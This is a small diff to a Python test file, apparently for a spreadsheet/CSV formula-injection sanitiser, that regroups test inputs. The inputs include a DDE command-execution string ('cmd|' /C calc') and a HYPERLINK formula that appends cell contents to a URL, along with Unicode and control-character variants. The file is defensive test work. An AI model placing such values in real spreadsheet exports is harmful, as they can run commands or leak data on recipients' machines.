@@ -262,7 +262,8 @@ def test_ordinary_cells_have_the_bytes_that_they_always_had(rows: list[tuple[str
 RUN = [
     *("=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", '=HYPERLINK("http://x/?"&A1)', "\t=1"),
     *("\r=1", "\n=1", "\tx", "\rx", "\nx", " =1", "\u3000=1", "\xa0@x", "\ufeff=1", "\x00=1"),
-    *("\uff1d1", "\uff0b1+1", "\uff0dx", "\uff20x", "\ufe661", "=", "-", "+-1", "--1", "-1a", "\x1b=1", "\x85=1"),
+    *("\uff1d1", "\uff0b1+1", "\uff0dx", "\uff20x", "\ufe661", "\x1b=1", "\x85=1"),
+    *("=", "-", "+-1", "--1", "-1a"),
 ]  # fmt: skip
 LEFT = ["", "a=1", "a", "'=1", "1", "-1", "+44", "-1.5e-3", "1,5", ".5", "http://x/=", "x\n=1"]
 
